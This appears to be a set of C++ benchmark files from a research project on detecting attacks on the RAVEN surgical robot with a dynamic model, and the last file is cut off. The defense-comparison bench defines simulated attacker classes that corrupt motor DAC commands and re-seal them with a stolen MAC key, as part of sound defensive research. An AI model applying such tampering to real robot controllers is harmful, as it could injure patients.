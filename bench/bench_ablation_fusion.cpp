// ABLATION: the alarm-fusion rule and the threshold percentile.
//
// The paper fuses motor-velocity, motor-acceleration and joint-velocity
// alarms and fires only when all three agree, "to reduce false alarms due
// to model inaccuracies and natural noise".  This bench quantifies that
// choice: TPR/FPR of any-1 vs 2-of-3 vs all-3 fusion on a scenario-B
// grid, plus sensitivity to the learned-threshold margin.
#include <cstdio>

#include "bench_util.hpp"
#include "sim/metrics.hpp"

namespace rg {
namespace {

ConfusionMatrix evaluate(FusionPolicy fusion, double margin,
                         const DetectionThresholds& base, int reps) {
  DetectionThresholds th = base;
  for (std::size_t i = 0; i < 3; ++i) {
    th.motor_vel[i] *= margin;
    th.motor_acc[i] *= margin;
    th.joint_vel[i] *= margin;
  }

  const double values[] = {2000, 8000, 14000, 20000, 26000, 32000};
  const std::uint32_t periods[] = {4, 16, 64, 256};
  std::vector<CampaignJob> jobs;
  int n = 0;
  for (double value : values) {
    for (std::uint32_t period : periods) {
      for (int rep = 0; rep < reps; ++rep) {
        CampaignJob job;
        job.attack.variant = AttackVariant::kTorqueInjection;
        job.attack.magnitude = value;
        job.attack.duration_packets = period;
        job.attack.delay_packets = 350 + static_cast<std::uint32_t>(rep) * 127;
        job.attack.seed = 60000 + static_cast<std::uint64_t>(n) * 13;

        job.params = bench::standard_session();
        job.params.seed = 3000 + static_cast<std::uint64_t>(rep) * 41;
        job.params.fusion = fusion;
        job.thresholds = th;
        jobs.push_back(std::move(job));
        ++n;
      }
    }
  }
  ConfusionMatrix cm;
  for (const CampaignJobResult& r : bench::run_campaign(std::move(jobs)).results) {
    cm.add(r.run.impact(), r.run.outcome.detector_alarmed());
  }
  return cm;
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header("ABLATION: alarm fusion policy and threshold margin (scenario B grid)");

  const DetectionThresholds thresholds = bench::standard_thresholds();
  const int reps = bench::reps(8);

  std::printf("\n  %-10s %-8s %8s %8s %8s %8s\n", "fusion", "margin", "ACC%", "TPR%", "FPR%",
              "F1%");
  for (FusionPolicy fusion :
       {FusionPolicy::kAnyVariable, FusionPolicy::kTwoOfThree, FusionPolicy::kAllThree}) {
    for (double margin : {0.5, 1.0, 2.0}) {
      const ConfusionMatrix cm = evaluate(fusion, margin, thresholds, reps);
      std::printf("  %-10s %-8.1f %8.1f %8.1f %8.1f %8.1f\n",
                  std::string{to_string(fusion)}.c_str(), margin, 100.0 * cm.accuracy(),
                  100.0 * cm.tpr(), 100.0 * cm.fpr(), 100.0 * cm.f1());
    }
  }

  std::printf("\n  Expected: any-1 fusion maximizes TPR but pays FPR; all-3 (the paper's\n"
              "  rule) suppresses false alarms at a small TPR cost; margin shifts the\n"
              "  whole operating point along the ROC curve.\n");
  return 0;
}
