// ABLATION: observer design for the parallel model.
//
// The deployed estimator corrects its parallel model with a Luenberger
// position/velocity injection; the literature the paper builds on
// (Haghighipanah et al., its ref. [35]) uses an unscented Kalman filter.
// This bench replays identical encoder/DAC streams from a fault-free run
// through both observers and compares (a) one-step position-prediction
// innovation (accuracy) and (b) the noise floor of the detection
// variables (which sets how tight the thresholds can be).
#include <cstdio>
#include <vector>

#include "bench_util.hpp"
#include "core/estimator.hpp"
#include "core/ukf_estimator.hpp"
#include "hw/motor_controller.hpp"
#include "math/stats.hpp"
#include "sim/surgical_sim.hpp"

namespace rg {
namespace {

struct Stream {
  std::vector<MotorVector> encoders;
  std::vector<std::array<std::int16_t, 3>> dacs;
};

Stream record_stream(std::uint64_t seed) {
  SessionParams p = bench::standard_session();
  p.seed = seed;
  SimConfig cfg = make_session(p, std::nullopt, MitigationMode::kObserveOnly);
  SurgicalSim sim(std::move(cfg));
  TraceRecorder trace;
  sim.set_trace(&trace);
  sim.run(p.duration_sec);

  const MotorChannel channel;
  Stream out;
  for (const TraceSample& s : trace.samples()) {
    MotorVector enc;
    for (std::size_t i = 0; i < 3; ++i) {
      enc[i] = channel.angle_from_counts(channel.counts_from_angle(s.motor_pos[i]));
    }
    out.encoders.push_back(enc);
    out.dacs.push_back({static_cast<std::int16_t>(s.dac[0]),
                        static_cast<std::int16_t>(s.dac[1]),
                        static_cast<std::int16_t>(s.dac[2])});
  }
  return out;
}

/// Record all fault-free replay streams up front through the campaign
/// engine (one job per run, slot-ordered), leaving the observer replay
/// comparisons serial and deterministic.
std::vector<Stream> record_streams(int runs) {
  std::vector<Stream> streams(static_cast<std::size_t>(runs));
  std::vector<CampaignJob> jobs(static_cast<std::size_t>(runs));
  for (int r = 0; r < runs; ++r) {
    CampaignJob& job = jobs[static_cast<std::size_t>(r)];
    job.params = bench::standard_session();
    job.params.seed = 42 + static_cast<std::uint64_t>(r) * 11;
    job.label = "observer-stream";
    job.body = [seed = job.params.seed, slot = &streams[static_cast<std::size_t>(r)]]() {
      *slot = record_stream(seed);
      return AttackRunResult{};
    };
  }
  (void)bench::run_campaign(std::move(jobs));
  return streams;
}

struct ObserverReport {
  RunningStats innovation_mrad;  // |predicted next mpos - next encoder|
  RunningStats accel_floor;      // predicted motor accel on clean data
};

template <typename Estimator>
ObserverReport replay(Estimator& est, const Stream& stream) {
  ObserverReport report;
  for (std::size_t t = 0; t + 1 < stream.encoders.size(); ++t) {
    est.observe_feedback(stream.encoders[t]);
    const Prediction pred = est.predict(stream.dacs[t]);
    est.commit(stream.dacs[t]);
    if (!pred.valid) continue;
    double err = 0.0;
    for (std::size_t i = 0; i < 3; ++i) {
      err = std::max(err, std::abs(pred.mpos_next[i] - stream.encoders[t + 1][i]));
    }
    report.innovation_mrad.add(1000.0 * err);
    report.accel_floor.add(pred.motor_instant_acc.norm_inf());
  }
  return report;
}

void print_report(const char* name, const ObserverReport& r) {
  std::printf("  %-28s %10.3f %10.3f %12.0f %12.0f\n", name, r.innovation_mrad.mean(),
              r.innovation_mrad.max(), r.accel_floor.mean(), r.accel_floor.max());
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header(
      "ABLATION: observer design (Luenberger vs sigma-point Kalman filter)\n"
      "identical fault-free encoder/DAC replay; lower = tighter thresholds");

  std::printf("\n  %-28s %10s %10s %12s %12s\n", "observer", "innov avg", "innov max",
              "accel avg", "accel max");
  std::printf("  %-28s %10s %10s %12s %12s\n", "", "(mrad)", "(mrad)", "(rad/s^2)",
              "(rad/s^2)");

  const int runs = bench::reps(3);
  const std::vector<Stream> streams = record_streams(runs);
  for (int r = 0; r < runs; ++r) {
    const Stream& stream = streams[static_cast<std::size_t>(r)];

    DynamicModelEstimator luenberger;
    if (r > 0) std::printf("  --- run %d ---\n", r + 1);
    print_report("Luenberger (deployed)", replay(luenberger, stream));

    EstimatorConfig stiff;
    stiff.observer_position_gain = 0.05;
    stiff.observer_velocity_gain = 10.0;
    DynamicModelEstimator low_gain(stiff);
    print_report("Luenberger, low gains", replay(low_gain, stream));

    UkfEstimator ukf;
    print_report("UKF (sigma-point)", replay(ukf, stream));
  }

  std::printf("\n  Reading: through the stiff cable transmission the UKF's position\n"
              "  innovations carry little persistent velocity information, so its\n"
              "  one-step predictions drift during motion; the deployed Luenberger\n"
              "  correction keeps both the innovation and the clean-data acceleration\n"
              "  floor low — i.e., tighter detection thresholds for free.\n");
  return 0;
}
