// ABLATION: the physical reaction chain behind mitigation.
//
// When the monitor (or RAVEN itself) fires, three hardware latencies
// bound how much jump still happens: the PLC watchdog timeout, and the
// mechanical engagement delay of the spring-applied brakes.  This bench
// sweeps both for a fixed scenario-B attack under dynamic-model
// mitigation, reporting the residual jump — quantifying the paper's
// observation that detection must be preemptive precisely *because* the
// downstream reaction is slow.
#include <cstdio>

#include "bench_util.hpp"

namespace rg {
namespace {

double residual_jump_mm(double brake_delay_s, std::uint32_t watchdog_ticks,
                        const DetectionThresholds& thresholds, int reps) {
  std::vector<CampaignJob> jobs(static_cast<std::size_t>(reps));
  for (int rep = 0; rep < reps; ++rep) {
    CampaignJob& job = jobs[static_cast<std::size_t>(rep)];
    job.attack.variant = AttackVariant::kTorqueInjection;
    job.attack.magnitude = 24000;
    job.attack.duration_packets = 128;
    job.attack.delay_packets = 400 + static_cast<std::uint32_t>(rep) * 149;
    job.attack.seed = 81000 + static_cast<std::uint64_t>(rep) * 31;

    job.params = bench::standard_session();
    job.params.seed = 7000 + static_cast<std::uint64_t>(rep) * 57;
    job.thresholds = thresholds;
    job.mitigation = MitigationMode::kArmed;
    job.configure = [brake_delay_s, watchdog_ticks](SimConfig& cfg) {
      cfg.plant.brake_engage_delay = brake_delay_s;
      cfg.plc.watchdog_timeout_ticks = watchdog_ticks;
    };
  }

  double total = 0.0;
  for (const CampaignJobResult& r : bench::run_campaign(std::move(jobs)).results) {
    total += r.run.outcome.max_ee_jump_window;
  }
  return 1000.0 * total / reps;
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header(
      "ABLATION: reaction-chain latencies vs residual jump under mitigation\n"
      "(scenario B, 24000 counts for 128 ms, dynamic-model mitigation armed)");

  const DetectionThresholds thresholds = bench::standard_thresholds();
  const int reps = bench::reps(10);

  std::printf("\n  residual jump (mm) vs brake engagement delay (watchdog = 10 ms):\n");
  std::printf("  %12s %12s\n", "delay (ms)", "jump (mm)");
  for (double delay_ms : {0.0, 10.0, 25.0, 50.0, 100.0}) {
    std::printf("  %12.0f %12.2f\n", delay_ms,
                residual_jump_mm(delay_ms / 1000.0, 10, thresholds, reps));
  }

  std::printf("\n  residual jump (mm) vs PLC watchdog timeout (brake delay = 50 ms):\n");
  std::printf("  %12s %12s\n", "timeout (ms)", "jump (mm)");
  for (std::uint32_t timeout : {2u, 5u, 10u, 25u, 50u}) {
    std::printf("  %12u %12.2f\n", timeout,
                residual_jump_mm(0.05, timeout, thresholds, reps));
  }

  std::printf("\n  Reading: a hypothetical instant brake would contain the jump, but\n"
              "  real spring-applied brakes need tens of ms — by ~25 ms the momentum\n"
              "  the motors gained before the alarm has fully expressed, and the PLC\n"
              "  watchdog timeout no longer matters at all (the monitor asserts the\n"
              "  E-STOP line directly).  With reaction hardware this slow, only\n"
              "  *preemptive* detection keeps the jump small — the paper's case for\n"
              "  predicting consequences before execution.\n");
  return 0;
}
