// ABLATION: ODE solver choice for the detector's real-time model.
//
// google-benchmark microbenchmarks of the per-cycle model work (one
// predict + one commit of the 12-state ODE) for each integrator, plus the
// single-step cost of the raw dynamics — the numbers behind the Fig. 8
// time/step column and the claim that the model fits the 1 ms budget.
#include <benchmark/benchmark.h>

#include "core/estimator.hpp"
#include "dynamics/raven_model.hpp"

namespace rg {
namespace {

void BM_ModelStep(benchmark::State& state, SolverKind solver) {
  const RavenDynamicsModel model;
  RavenDynamicsModel::State x = model.make_rest_state(JointVector{0.0, 1.5, 0.15});
  const Vec3 currents{0.5, -0.3, 0.2};
  for (auto _ : state) {
    x = model.step(x, currents, 1.0e-3, solver);
    benchmark::DoNotOptimize(x);
  }
  state.SetLabel(std::string{to_string(solver)});
}

void BM_DetectorCycle(benchmark::State& state, SolverKind solver) {
  EstimatorConfig cfg;
  cfg.solver = solver;
  DynamicModelEstimator est(cfg);
  const RavenDynamicsModel model;
  const MotorVector rest = model.coupling().joint_to_motor(JointVector{0.0, 1.5, 0.15});
  est.observe_feedback(rest);
  const std::array<std::int16_t, 3> dac{500, -300, 200};
  for (auto _ : state) {
    est.observe_feedback(rest);
    Prediction pred = est.predict(dac);
    benchmark::DoNotOptimize(pred);
    est.commit(dac);
  }
  state.SetLabel(std::string{to_string(solver)} +
                 " (budget: 1 ms/cycle — full observe+predict+commit)");
}

void BM_DerivativeOnly(benchmark::State& state) {
  const RavenDynamicsModel model;
  const RavenDynamicsModel::State x = model.make_rest_state(JointVector{0.0, 1.5, 0.15});
  const Vec3 currents{0.5, -0.3, 0.2};
  for (auto _ : state) {
    auto dx = model.derivative(x, currents);
    benchmark::DoNotOptimize(dx);
  }
}

BENCHMARK_CAPTURE(BM_ModelStep, euler, SolverKind::kEuler);
BENCHMARK_CAPTURE(BM_ModelStep, midpoint, SolverKind::kMidpoint);
BENCHMARK_CAPTURE(BM_ModelStep, rk4, SolverKind::kRk4);
BENCHMARK_CAPTURE(BM_ModelStep, rkf45, SolverKind::kRkf45);
BENCHMARK_CAPTURE(BM_DetectorCycle, euler, SolverKind::kEuler);
BENCHMARK_CAPTURE(BM_DetectorCycle, rk4, SolverKind::kRk4);
BENCHMARK(BM_DerivativeOnly);

}  // namespace
}  // namespace rg

BENCHMARK_MAIN();
