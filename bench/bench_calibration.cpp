// bench_calibration: streaming threshold calibration on the 1 kHz path.
//
// Two acceptance criteria from docs/thresholds.md, both machine-checked
// here and re-validated by scripts/tier1.sh against the emitted
// BENCH_calibration.json (schema "rg.bench.calibration/1"):
//
//   1. Budget — ThresholdSketch::observe (nine QuantileSketch::add calls,
//      the per-tick cost a calibrating gateway session pays) must fit the
//      1 kHz tick budget with two orders of magnitude to spare.  We
//      measure per-call cost in chunks across both sketch phases (exact
//      buffer, then the P² estimator after the one-off collapse) and
//      gate on p99 <= kObserveBudgetNs (20 µs — conservative: the
//      measured cost is tens of nanoseconds, the tick budget is 1 ms).
//   2. Agreement — streaming extraction must match the batch
//      ThresholdLearner bit-for-bit on the paper's 600-run corpus
//      (ε = 0 in the exact phase) and stay within
//      QuantileSketch::kEstimatorEpsilon of the true quantile once the
//      estimator phase takes over.
//
// Exit status is nonzero when either criterion fails, so the bench
// doubles as a regression gate.
#include <chrono>
#include <cstdio>
#include <fstream>
#include <random>
#include <vector>

#include "bench_util.hpp"
#include "core/quantile_sketch.hpp"
#include "core/thresholds.hpp"
#include "math/stats.hpp"
#include "obs/histogram.hpp"

namespace rg {
namespace {

using Clock = std::chrono::steady_clock;

constexpr double kObserveBudgetNs = 20000.0;  // p99 gate; tick budget is 1e6
constexpr std::size_t kChunk = 256;           // observes per timing sample

Prediction synthetic_prediction(std::mt19937_64& rng) {
  std::uniform_real_distribution<double> vel(0.0, 3.0);
  std::uniform_real_distribution<double> acc(0.0, 900.0);
  std::uniform_real_distribution<double> jvel(0.0, 0.3);
  Prediction p;
  p.valid = true;
  p.motor_instant_vel = Vec3{vel(rng), vel(rng), vel(rng)};
  p.motor_instant_acc = Vec3{acc(rng), acc(rng), acc(rng)};
  p.joint_instant_vel = Vec3{jvel(rng), jvel(rng), jvel(rng)};
  return p;
}

/// Per-observe cost (ns) over `total` predictions, timed in chunks of
/// kChunk to keep clock overhead out of the per-call figure.
obs::HistogramData measure_observe_ns(ThresholdSketch& sketch, std::size_t total) {
  std::mt19937_64 rng(101);
  std::vector<Prediction> batch(kChunk);
  obs::HistogramData hist;
  for (std::size_t done = 0; done < total; done += kChunk) {
    for (Prediction& p : batch) p = synthetic_prediction(rng);
    const auto t0 = Clock::now();
    for (const Prediction& p : batch) sketch.observe(p);
    const auto elapsed =
        std::chrono::duration_cast<std::chrono::nanoseconds>(Clock::now() - t0).count();
    hist.observe(static_cast<std::uint64_t>(elapsed) / kChunk);
  }
  return hist;
}

struct Agreement {
  double exact_max_abs_diff = 0.0;  // streaming vs batch, 600-run corpus
  double estimator_rel_error = 0.0;  // P² phase vs true quantile
};

Agreement measure_agreement() {
  Agreement out;

  // Exact phase: the paper's corpus, both paths fed identical maxima.
  std::mt19937_64 rng(202);
  std::uniform_real_distribution<double> dist(0.5, 4.0);
  ThresholdLearner learner;
  ThresholdSketch sketch;
  for (int run = 0; run < 600; ++run) {
    Prediction p;
    p.valid = true;
    const double s = dist(rng);
    p.motor_instant_vel = Vec3{1.0 * s, 2.0 * s, 3.0 * s};
    p.motor_instant_acc = Vec3{10.0 * s, 20.0 * s, 30.0 * s};
    p.joint_instant_vel = Vec3{0.1 * s, 0.2 * s, 0.3 * s};
    learner.observe(p);
    learner.end_run();
    sketch.commit_maxima(p.motor_instant_vel, p.motor_instant_acc, p.joint_instant_vel);
  }
  const DetectionThresholds batch = learner.learn().value();
  const DetectionThresholds stream = sketch.extract().value();
  for (std::size_t i = 0; i < 3; ++i) {
    out.exact_max_abs_diff = std::max(
        {out.exact_max_abs_diff, std::abs(stream.motor_vel[i] - batch.motor_vel[i]),
         std::abs(stream.motor_acc[i] - batch.motor_acc[i]),
         std::abs(stream.joint_vel[i] - batch.joint_vel[i])});
  }

  // Estimator phase: 100k uniform samples, relative error at the target.
  std::vector<double> xs(100000);
  std::uniform_real_distribution<double> wide(0.0, 10.0);
  for (double& x : xs) x = wide(rng);
  QuantileSketch big;
  for (double x : xs) big.add(x);
  const double truth = percentile(xs, 100.0 * big.target_quantile());
  const double est = big.quantile(big.target_quantile()).value();
  out.estimator_rel_error = std::abs(est - truth) / truth;
  return out;
}

void write_json(const std::string& path, const obs::HistogramData& exact_ns,
                const obs::HistogramData& estimator_ns, const Agreement& agreement,
                bool pass) {
  std::ofstream os(path);
  if (!os) {
    std::fprintf(stderr, "cannot write %s\n", path.c_str());
    return;
  }
  os.precision(17);
  const auto section = [&os](const char* name, const obs::HistogramData& h) {
    os << "  \"" << name << "\": {\"samples\": " << h.count << ", \"p50\": " << h.percentile(50.0)
       << ", \"p90\": " << h.percentile(90.0) << ", \"p99\": " << h.percentile(99.0)
       << ", \"max\": " << h.max << "},\n";
  };
  os << "{\n  \"schema\": \"rg.bench.calibration/1\",\n";
  section("observe_exact_ns", exact_ns);
  section("observe_estimator_ns", estimator_ns);
  os << "  \"observe_budget_ns\": " << kObserveBudgetNs << ",\n";
  os << "  \"tick_budget_ns\": 1000000.0,\n";
  os << "  \"exact_max_abs_diff\": " << agreement.exact_max_abs_diff << ",\n";
  os << "  \"estimator_rel_error\": " << agreement.estimator_rel_error << ",\n";
  os << "  \"estimator_epsilon\": " << QuantileSketch::kEstimatorEpsilon << ",\n";
  os << "  \"pass\": " << (pass ? "true" : "false") << "\n}\n";
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header("streaming calibration: 1 kHz budget + batch agreement");

  // Exact phase: the first 1024 committed samples per axis.
  ThresholdSketch sketch;
  const obs::HistogramData exact_ns =
      measure_observe_ns(sketch, QuantileSketch::kExactCapacity - kChunk);
  // Push the same sketch over the collapse so the second measurement is
  // pure estimator phase (including none of the one-off sort spike).
  const obs::HistogramData estimator_ns = measure_observe_ns(sketch, 1u << 16);

  const Agreement agreement = measure_agreement();

  const bool budget_ok = exact_ns.percentile(99.0) <= kObserveBudgetNs &&
                         estimator_ns.percentile(99.0) <= kObserveBudgetNs;
  const bool agreement_ok =
      agreement.exact_max_abs_diff == 0.0 &&
      agreement.estimator_rel_error <= QuantileSketch::kEstimatorEpsilon;
  const bool pass = budget_ok && agreement_ok;

  std::printf("observe (exact phase)     p50 %6.0f ns  p99 %6.0f ns  max %6llu ns\n",
              exact_ns.percentile(50.0), exact_ns.percentile(99.0),
              static_cast<unsigned long long>(exact_ns.max));
  std::printf("observe (estimator phase) p50 %6.0f ns  p99 %6.0f ns  max %6llu ns\n",
              estimator_ns.percentile(50.0), estimator_ns.percentile(99.0),
              static_cast<unsigned long long>(estimator_ns.max));
  std::printf("p99 budget                %.0f ns (tick budget 1000000 ns): %s\n",
              kObserveBudgetNs, budget_ok ? "ok" : "EXCEEDED");
  std::printf("600-run corpus agreement  max |streaming - batch| = %.17g (want 0)\n",
              agreement.exact_max_abs_diff);
  std::printf("estimator relative error  %.5f (epsilon %.2f): %s\n",
              agreement.estimator_rel_error, QuantileSketch::kEstimatorEpsilon,
              agreement_ok ? "ok" : "EXCEEDED");

  const char* out = std::getenv("RG_BENCH_CALIBRATION_JSON");
  write_json(out != nullptr ? out : "BENCH_calibration.json", exact_ns, estimator_ns,
             agreement, pass);
  return pass ? 0 : 1;
}
