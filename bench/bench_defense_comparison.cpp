// DEFENSE COMPARISON (paper Sec. III.D): why conventional integrity
// retrofits do not close the TOCTOU gap, and what each defense costs.
//
// The paper argues that signature/anomaly malware detection, encryption /
// bump-in-the-wire (BITW) integrity, and remote attestation either add
// latency or "still not eliminate the possibility of TOCTOU exploits",
// motivating the dynamic-model approach.  This bench makes that argument
// quantitative on the simulated system:
//
//   1. per-packet cost of BITW sealing + verification vs the 1 ms budget,
//   2. scenario-B outcome under four configurations:
//        (a) stock robot,
//        (b) BITW MAC with the attacker *outside* the seal (bus tamper),
//        (c) BITW MAC with the attacker *inside* the process (re-seals
//            with the stolen key -> attack succeeds),
//        (d) dynamic-model detection (this paper).
#include <array>
#include <chrono>
#include <cstdio>
#include <memory>
#include <vector>

#include "bench_util.hpp"
#include "defense/bitw.hpp"
#include "math/stats.hpp"

namespace rg {
namespace {

/// Write-path wrapper that corrupts the *sealed* frame (attacker outside
/// the seal: classic bus-level tampering the BITW retrofit is built for).
class OutsideSealTamper final : public PacketInterposer {
 public:
  bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t) override {
    if (bytes.size() != kSealedCommandSize) return true;
    bytes[3] = static_cast<std::uint8_t>(bytes[3] + 60);  // DAC high byte
    ++injections_;
    return true;
  }
  std::uint64_t injections_ = 0;
};

/// Write-path wrapper that corrupts the packet and re-seals with the key
/// it lifted from process memory (attacker inside the process — the
/// paper's threat model).
class InsideSealTamper final : public PacketInterposer {
 public:
  InsideSealTamper(MacKey stolen, std::int32_t dac_offset)
      : stolen_(stolen), offset_(dac_offset) {}

  bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t) override {
    if (bytes.size() != kSealedCommandSize) return true;
    SealedCommandBytes frame{};
    std::copy(bytes.begin(), bytes.end(), frame.begin());
    CommandBytes inner{};
    std::copy(frame.begin(), frame.begin() + kCommandPacketSize, inner.begin());
    auto decoded = decode_command(inner, false);
    if (!decoded.ok()) return true;
    CommandPacket pkt = decoded.value();
    if (pkt.state != RobotState::kPedalDown) return true;  // same trigger logic
    const std::int32_t next =
        std::clamp(static_cast<std::int32_t>(pkt.dac[1]) + offset_, -32768, 32767);
    pkt.dac[1] = static_cast<std::int16_t>(next);
    const SealedCommandBytes resealed =
        reseal_with_stolen_key(stolen_, frame, encode_command(pkt));
    std::copy(resealed.begin(), resealed.end(), bytes.begin());
    ++injections_;
    return true;
  }
  MacKey stolen_;
  std::int32_t offset_;
  std::uint64_t injections_ = 0;
};

/// Run a session where the control software's output is sealed, the
/// given wrapper interposes on the sealed frames, and the board only
/// accepts frames the verifier blesses.
struct SealedRunResult {
  RunOutcome outcome;
  std::uint64_t accepted = 0;
  std::uint64_t rejected = 0;
};

SealedRunResult run_sealed_session(std::shared_ptr<PacketInterposer> tamper,
                                   const MacKey& key) {
  SessionParams p = bench::standard_session();
  p.seed = 4242;
  SimConfig cfg = make_session(p, std::nullopt, MitigationMode::kObserveOnly);
  SurgicalSim sim(std::move(cfg));

  CommandSealer sealer(key);
  CommandVerifier verifier(key);

  // The seal/verify pair wraps the write hop: seal the software's bytes,
  // pass the sealed frame through the attacker, verify at the board, and
  // rewrite the buffer with either the verified payload or a safe zero
  // packet (a BITW verifier fails closed).
  class SealVerifyAdapter final : public PacketInterposer {
   public:
    SealVerifyAdapter(CommandSealer& sealer, CommandVerifier& verifier,
                      std::shared_ptr<PacketInterposer> tamper)
        : sealer_(sealer), verifier_(verifier), tamper_(std::move(tamper)) {}

    bool on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) override {
      CommandBytes pkt{};
      std::copy(bytes.begin(), bytes.end(), pkt.begin());
      SealedCommandBytes frame = sealer_.seal(pkt);
      if (tamper_ && !tamper_->on_packet(frame, tick)) return false;
      const auto verified = verifier_.verify(frame);
      if (!verified) return false;  // board drops the frame
      std::copy(verified->begin(), verified->end(), bytes.begin());
      return true;
    }

   private:
    CommandSealer& sealer_;
    CommandVerifier& verifier_;
    std::shared_ptr<PacketInterposer> tamper_;
  };

  sim.write_chain().add(std::make_shared<SealVerifyAdapter>(sealer, verifier, tamper));
  sim.run(p.duration_sec);

  return SealedRunResult{sim.outcome(), verifier.accepted(), verifier.rejected()};
}

}  // namespace
}  // namespace rg

int main() {
  using namespace rg;
  bench::header("DEFENSE COMPARISON: BITW integrity retrofit vs dynamic-model detection");

  // --- 1. BITW per-packet cost ---------------------------------------------
  {
    const MacKey key = MacKey::from_seed(77);
    CommandSealer sealer(key);
    CommandVerifier verifier(key);
    CommandPacket pkt;
    pkt.state = RobotState::kPedalDown;
    RunningStats seal_us, verify_us;
    for (int i = 0; i < 20000; ++i) {
      const CommandBytes raw = encode_command(pkt);
      auto t0 = std::chrono::steady_clock::now();
      const SealedCommandBytes frame = sealer.seal(raw);
      auto t1 = std::chrono::steady_clock::now();
      (void)verifier.verify(frame);
      auto t2 = std::chrono::steady_clock::now();
      seal_us.add(std::chrono::duration<double, std::micro>(t1 - t0).count());
      verify_us.add(std::chrono::duration<double, std::micro>(t2 - t1).count());
    }
    std::printf("\n  BITW cost per packet: seal %.3f us, verify %.3f us "
                "(budget 1000 us/cycle)\n",
                seal_us.mean(), verify_us.mean());
  }

  // --- 2. scenario-B outcomes under each defense ----------------------------
  // All four configurations run as one campaign: (a) and (d) are plain
  // attack jobs; the sealed runs (b)/(c) are custom bodies writing their
  // verifier counters into per-job slots.
  const MacKey key = MacKey::from_seed(321);
  const DetectionThresholds th = bench::standard_thresholds();

  AttackSpec scenario_b;
  scenario_b.variant = AttackVariant::kTorqueInjection;
  scenario_b.magnitude = 24000;
  scenario_b.duration_packets = 96;
  scenario_b.delay_packets = 500;

  std::array<SealedRunResult, 2> sealed{};
  std::vector<CampaignJob> jobs(4);

  jobs[0].params = bench::standard_session();
  jobs[0].params.seed = 4242;
  jobs[0].attack = scenario_b;
  jobs[0].label = "stock";

  jobs[1].params = bench::standard_session();
  jobs[1].params.seed = 4242;
  jobs[1].label = "bitw-outside";
  jobs[1].body = [&key, slot = &sealed[0]]() {
    *slot = run_sealed_session(std::make_shared<OutsideSealTamper>(), key);
    AttackRunResult result;
    result.outcome = slot->outcome;
    return result;
  };

  jobs[2].params = bench::standard_session();
  jobs[2].params.seed = 4242;
  jobs[2].label = "bitw-inside";
  jobs[2].body = [&key, slot = &sealed[1]]() {
    *slot = run_sealed_session(std::make_shared<InsideSealTamper>(key, 24000), key);
    AttackRunResult result;
    result.outcome = slot->outcome;
    return result;
  };

  jobs[3].params = bench::standard_session();
  jobs[3].params.seed = 4242;
  jobs[3].attack = scenario_b;
  jobs[3].thresholds = th;
  jobs[3].mitigation = MitigationMode::kArmed;
  jobs[3].label = "dynamic-model";

  const CampaignReport report = bench::run_campaign(std::move(jobs));

  std::printf("\n  %-44s %10s %8s %s\n", "configuration", "jump (mm)", "impact",
              "notes");

  {  // (a) stock
    const AttackRunResult& r = report.results[0].run;
    std::printf("  %-44s %10.2f %8s %s\n", "(a) stock robot, scenario B",
                1000.0 * r.outcome.max_ee_jump_window, r.impact() ? "YES" : "no",
                "the baseline attack");
  }

  {  // (b) BITW, attacker outside the seal
    const SealedRunResult& r = sealed[0];
    std::printf("  %-44s %10.2f %8s rejected %llu tampered frames\n",
                "(b) BITW seal, attacker on the bus",
                1000.0 * r.outcome.max_ee_jump_window,
                r.outcome.adverse_impact() ? "YES" : "no",
                static_cast<unsigned long long>(r.rejected));
  }

  {  // (c) BITW, attacker inside the process
    const SealedRunResult& r = sealed[1];
    std::printf("  %-44s %10.2f %8s verifier accepted ALL %llu frames\n",
                "(c) BITW seal, attacker inside the process",
                1000.0 * r.outcome.max_ee_jump_window,
                r.outcome.adverse_impact() ? "YES" : "no",
                static_cast<unsigned long long>(r.accepted));
  }

  {  // (d) dynamic-model detection
    const AttackRunResult& r = report.results[3].run;
    std::printf("  %-44s %10.2f %8s alarm %s, mitigation engaged\n",
                "(d) dynamic-model detection (this paper)",
                1000.0 * r.outcome.max_ee_jump_window,
                r.outcome.adverse_impact() ? "YES" : "no",
                r.outcome.detected_preemptively() ? "preemptive" : "late");
  }

  std::printf("\n  The BITW retrofit stops bus-level tampering cold but is transparent\n"
              "  to the in-process attacker, who re-seals with the in-memory key —\n"
              "  the TOCTOU gap only closes when commands are checked against their\n"
              "  *physical consequences* (paper Sec. III.D / IV).\n");
  return 0;
}
