// DETECTION LATENCY (extends the paper's "preemptive" claim with a
// distribution): time from the first corrupted packet to the detector's
// alarm, and to RAVEN's own reaction, per injected value — plus how much
// displacement had accumulated when each fired.
#include <cstdio>

#include "bench_util.hpp"
#include "math/stats.hpp"

namespace rg {
namespace {

struct LatencyStats {
  RunningStats dyn_ms;
  RunningStats raven_ms;
  RunningStats impact_ms;
  int dyn_fired = 0;
  int raven_fired = 0;
  int impacts = 0;
  int runs = 0;
};

LatencyStats measure(double value, const DetectionThresholds& thresholds, int reps) {
  std::vector<CampaignJob> jobs(static_cast<std::size_t>(reps));
  for (int rep = 0; rep < reps; ++rep) {
    CampaignJob& job = jobs[static_cast<std::size_t>(rep)];
    job.attack.variant = AttackVariant::kTorqueInjection;
    job.attack.magnitude = value;
    job.attack.duration_packets = 128;
    job.attack.delay_packets = 400 + static_cast<std::uint32_t>(rep) * 151;
    job.attack.seed = 70000 + static_cast<std::uint64_t>(rep) * 29;
    job.params = bench::standard_session();
    job.params.seed = 6000 + static_cast<std::uint64_t>(rep) * 43;
    job.thresholds = thresholds;
  }

  LatencyStats out;
  for (const CampaignJobResult& result : bench::run_campaign(std::move(jobs)).results) {
    const AttackRunResult& r = result.run;
    ++out.runs;
    if (!r.first_injection_tick) continue;
    const double t0 = static_cast<double>(*r.first_injection_tick);
    if (r.outcome.detector_alarm_tick) {
      ++out.dyn_fired;
      out.dyn_ms.add(static_cast<double>(*r.outcome.detector_alarm_tick) - t0);
    }
    if (r.outcome.raven_fault_tick) {
      ++out.raven_fired;
      out.raven_ms.add(static_cast<double>(*r.outcome.raven_fault_tick) - t0);
    }
    if (r.outcome.adverse_impact_tick) {
      ++out.impacts;
      out.impact_ms.add(static_cast<double>(*r.outcome.adverse_impact_tick) - t0);
    }
  }
  return out;
}

